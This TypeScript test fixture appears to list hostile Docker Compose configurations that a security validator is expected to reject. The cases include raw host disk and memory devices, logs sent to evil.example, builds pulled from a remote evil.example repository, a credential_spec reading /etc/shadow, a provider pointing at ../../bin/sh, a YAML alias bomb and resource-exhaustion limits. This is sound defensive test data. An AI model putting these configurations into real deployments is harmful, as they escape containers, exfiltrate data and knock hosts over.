// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Compose variables
import { type EscapeCase, file, host, service } from './escapeCase.ts'

const device = (id: string, rule: string, what: string, path: string) => service(id, rule, what, `devices: ["${path}"]`)

/** Hardware, limits, and everything Compose can do besides running containers. */
export const hardwareEscapes: readonly EscapeCase[] = [
  device('device-disk', 'device.raw', 'a disk', '/dev/sda'),
  device('device-disk-renamed', 'device.raw', 'a disk under another name', '/dev/sda:/dev/net/tun'),
  device('device-nvme', 'device.raw', 'a disk', '/dev/nvme0n1:/dev/x:r'),
  device('device-mapper', 'device.raw', 'a disk', '/dev/mapper/root'),
  device('device-lvm', 'device.raw', 'a disk of LVM', '/dev/vg0/root'),
  device('device-by-id', 'device.raw', 'a disk by its id', '/dev/disk/by-id/x'),
  device('device-block', 'device.raw', 'a disk by its number', '/dev/block/8:0'),
  device('device-char', 'device.raw', 'memory by its number', '/dev/char/1:1'),
  device('device-mem', 'device.raw', 'memory', '/dev/mem'),
  device('device-kmem', 'device.raw', 'memory of the kernel', '/dev/kmem'),
  device('device-kmsg', 'device.raw', 'messages of the kernel', '/dev/kmsg'),
  device('device-port', 'device.raw', 'ports of the machine', '/dev/port'),
  device('device-dots', 'device.raw', 'with dots', '/dev/net/../sda'),
  device('device-slashes', 'device.raw', 'with slashes', '//dev//sda'),
  device('device-all', 'device.raw', 'all of them', '/dev'),
  device('device-proc', 'device.raw', 'through /proc', '/proc/1/root/dev/sda'),
  device('device-uinput', 'device.raw', 'types on the keyboard', '/dev/uinput'),
  device('device-scsi', 'device.raw', 'a disk past its driver', '/dev/sg0'),
  device('device-loop', 'device.raw', 'any file as a disk', '/dev/loop-control'),
  device('device-outside', 'device.raw', 'a node that the container made itself', '/srv/media/disk'),
  device('device-console', 'device.raw', 'the console', '/dev/tty1'),
  device('device-serial', 'device.hardware', 'needs the owner', '/dev/ttyUSB0'),
  device('device-tun', 'device.reviewed', 'needs the owner', '/dev/net/tun'),
  device('device-variable', 'device.raw', 'by a variable', '${D:-/dev/sda}'),
  device('device-cdi', 'device.request', 'by a name of a vendor', 'vendor.com/disk=all'),
  service('device-rules', 'device.cgroup_rule', 'all devices', 'device_cgroup_rules: ["a *:* rwm"]'),
  service('gpu', 'device.gpu', 'needs the owner', 'gpus: all'),
  service(
    'gpu-reserved',
    'device.gpu',
    'needs the owner',
    'deploy: {resources: {reservations: {devices: [{driver: nvidia, count: all, capabilities: [gpu]}]}}}',
  ),
  service(
    'device-request',
    'device.request',
    'a driver nobody knows',
    'deploy: {resources: {reservations: {devices: [{driver: evil, capabilities: [disk]}]}}}',
  ),
  host('device-body', 'device.raw', 'a disk', {
    Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/null', CgroupPermissions: 'rwm' }],
  }),
  host('device-rules-body', 'device.cgroup_rule', 'all devices', { DeviceCgroupRules: ['b *:* rwm'] }),
  host('device-request-body', 'device.request', 'a device of CDI', {
    DeviceRequests: [{ Driver: 'cdi', DeviceIDs: ['vendor.com/disk=sda'] }],
  }),

  service(
    'logging-syslog',
    'logging.driver',
    'calls an address inside',
    'logging: {driver: syslog, options: {syslog-address: "tcp://10.0.0.1:514"}}',
  ),
  service(
    'logging-splunk',
    'logging.driver',
    'sends the log away',
    'logging: {driver: splunk, options: {splunk-url: "http://evil.example"}}',
  ),
  service('logging-plugin', 'logging.driver', 'a plugin', 'logging: {driver: evil/plugin}'),
  service(
    'logging-option',
    'logging.option',
    'an option nobody knows',
    'logging: {driver: json-file, options: {gelf-address: x}}',
  ),
  host('logging-body', 'logging.driver', 'sends the log away', {
    LogConfig: { Type: 'gelf', Config: { 'gelf-address': 'udp://10.0.0.1:1' } },
  }),

  service('replicas', 'limit.replicas', 'fills the host', 'scale: 500'),
  service('replicas-deploy', 'limit.replicas', 'fills the host', 'deploy: {replicas: 100}'),
  file(
    'services',
    'limit.services',
    'fills the host',
    `services:\n${Array.from({ length: 40 }, (_, i) => `  s${i}: {image: "nginx:1.29"}\n`).join('')}`,
  ),
  service('shm', 'limit.shm', 'takes all memory', 'shm_size: 64g'),
  service(
    'health-interval',
    'limit.health_interval',
    'a check every millisecond',
    'healthcheck: {test: "true", interval: 1ms}',
  ),
  service(
    'health-start-interval',
    'limit.health_interval',
    'at the start',
    'healthcheck: {test: "true", interval: 10s, start_period: 9h, start_interval: 1ms}',
  ),
  service('stop-time', 'limit.stop_time', 'cannot be stopped', 'stop_grace_period: 1000h'),
  service('ulimit', 'limit.ulimit', 'files without end', 'ulimits: {nofile: {soft: 1, hard: 99999999}}'),
  service('ulimit-unlimited', 'limit.ulimit', 'processes without end', 'ulimits: {nproc: -1}'),
  service('ulimit-rtprio', 'limit.ulimit', 'real time', 'ulimits: {rtprio: 99}'),
  service('oom-score', 'oom.score', 'others die first', 'oom_score_adj: -1000'),
  service('oom-kill', 'oom.kill_disable', 'nobody dies', 'oom_kill_disable: true'),
  service('realtime', 'cpu.realtime', 'stops everything else', 'cpu_rt_runtime: 950000'),
  service('storage-option', 'storage.option', 'an option nobody knows', 'storage_opt: {x: y}'),
  host('shm-body', 'limit.shm', 'takes all memory', { ShmSize: 2 ** 36 }),
  host('oom-body', 'oom.score', 'others die first', { OomScoreAdj: -999 }),
  host('oom-kill-body', 'oom.kill_disable', 'nobody dies', { OomKillDisable: true }),
  host('realtime-body', 'cpu.realtime', 'stops everything else', { CpuRealtimeRuntime: 950_000 }),
  host('ulimit-body', 'limit.ulimit', 'files without end', { Ulimits: [{ Name: 'nofile', Soft: -1, Hard: -1 }] }),
  host('storage-body', 'storage.option', 'an option nobody knows', { StorageOpt: { lcow: 'x' } }),

  file(
    'build',
    'feature.build',
    'runs commands while building',
    'services:\n  web: {build: {context: ., dockerfile_inline: "FROM a\\nRUN id"}}\n',
  ),
  file('build-remote', 'feature.build', 'a repository', 'services:\n  web: {build: "https://evil.example/x.git"}\n'),
  service('pull-policy-build', 'feature.pull_policy_build', 'builds after all', 'build: .\npull_policy: build'),
  file(
    'provider',
    'feature.provider',
    'a program of the host',
    'services:\n  web: {provider: {type: "../../bin/sh"}}\n',
  ),
  file(
    'models',
    'feature.models',
    'outside of any container',
    'services:\n  web: {image: "nginx:1.29", models: [m]}\nmodels: {m: {model: ai/x}}\n',
  ),
  service('credential-spec', 'feature.credential_spec', 'a file of the host', 'credential_spec: {file: /etc/shadow}'),
  service('unknown-key', null, 'a key that nobody knows', 'privileged_mode: true'),
  service(
    'unknown-nested-key',
    null,
    'a key that nobody knows, further in',
    'deploy: {resources: {limits: {root: true}}}',
  ),
  file(
    'alias-bomb',
    null,
    'aliases that grow without end',
    `x-a: &a [${'x,'.repeat(9)}x]\n${'bcdefghijk'
      .split('')
      .map((name, i) => `x-${name}: &${name} [${`*${'abcdefghij'[i]},`.repeat(9)}*${'abcdefghij'[i]}]`)
      .join('\n')}\nservices:\n  web: {image: "nginx:1.29", command: *k}\n`,
  ),
  file(
    'duplicate-key',
    null,
    'the second of two counts',
    'services:\n  web:\n    image: nginx:1.29\n    privileged: false\n    privileged: true\n',
  ),
]
